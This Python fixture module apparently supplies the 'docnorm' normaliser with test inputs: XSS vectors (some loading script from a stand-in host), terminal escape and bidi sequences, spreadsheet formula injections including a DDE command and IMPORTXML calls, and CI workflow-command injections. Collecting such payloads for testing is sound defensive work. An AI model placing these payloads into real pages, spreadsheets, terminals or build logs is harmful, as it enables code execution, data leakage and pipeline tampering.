"""Texts and names that try to act on the page, the terminal or the sheet they are shown in; written for docnorm."""
# ruff: noqa: E501, Q003  payloads read best whole

from __future__ import annotations

_HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//a.cn/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>党</a>", "[党](javascript:alert(1))",
    "<body onload=alert(1)>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<!--<script>alert(1)//-->", "--><script>alert(1)</script>",
    "<math><mtext><script>alert(1)</script></mtext></math>", "<form action=//a.cn><button>x</button></form>",
    "<base href=//a.cn/>", "<link rel=stylesheet href=//a.cn/x.css>", "<meta http-equiv=refresh content=0;url=//a.cn>",
    "<object data=javascript:alert(1)>", "<embed src=//a.cn>", "<style>*{background:url(//a.cn)}</style>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "＜script＞alert(1)＜/script＞",
    "\"onmouseover=alert(1) x=\"", "' onmouseover=alert(1) '", "` onmouseover=alert(1) `", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "<x\x00y onclick=alert(1)>", "<\x00script>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>", "#{7*7}", "<?php echo 1 ?>",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<a id=rules name=rules>x</a>",
    "\u2028alert(1)//", "</p></div><div class=row>", "<h2 id=suggestions>", "<plaintext>", "<textarea>", "<xmp>", "</main>",
]  # fmt: skip
_TERMINAL = [
    "\x1b[2J\x1b[H", "\x1b[31m红\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://a.cn\x1b\\x\x1b]8;;\x1b\\", "\x1bP+q\x1b\\",
    "\x9b2J", "\x9d0;x\x9c", "a\rb", "a\x08\x08b", "\x07", "\x0c", "\x0b", "\x0e", "\x1b[?25l", "\x1b[6n", "\x1bc",
    "\u202e倒过来", "\u2066x\u2069", "\u200bx", "\ufeffx", "\x7f", "\x85", "\x00", "\ud800", "\udfff", "\ufffe",
]  # fmt: skip
_SHEET = [
    "=1+1", "+1", "-1", "@SUM(1)", "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://a.cn\",\"x\")", "\t=1", "\r=1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "=IMPORTXML(\"http://a.cn\",\"//a\")", "%0A::set-env name=X::y",
    "\n::error::x", "::warning file=a::x", "::stop-commands::x", "##[error]x", "::add-mask::x", "::set-output name=a::b",
]  # fmt: skip
PAYLOADS = tuple(_HTML + _TERMINAL + _SHEET)
